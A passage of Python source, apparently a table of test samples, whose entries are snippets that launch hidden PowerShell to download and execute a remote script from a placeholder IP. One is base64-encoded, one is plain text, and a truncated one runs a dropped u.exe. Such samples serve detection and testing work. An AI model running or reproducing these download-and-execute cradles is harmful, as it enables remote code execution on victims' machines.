        "IAAkAGUAbgB2ADoAVABFAE0AUABcAHUALgBlAHgAZQA7ACAAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAC"
        'QAZQBuAHYAOgBUAEUATQBQAFwAdQAuAGUAeABlAA=="])'
    ),
    "ps_shell_e_E1": (
        "import os\n"
        'os.system("powershell -nop -w hidden -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAH'
        "QALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABw"
        'ADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANAA1AC8AYQAuAHAAcwAxACcAKQA=")'
    ),
    "ps_plain_downloadstring": (
        "import subprocess\n"
        'subprocess.Popen(["powershell", "-w", "hidden", "-c", "IEX(New-Object '
        "Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')\"])"
    ),
}
WRITEUPS.update(WRITEUPS2)
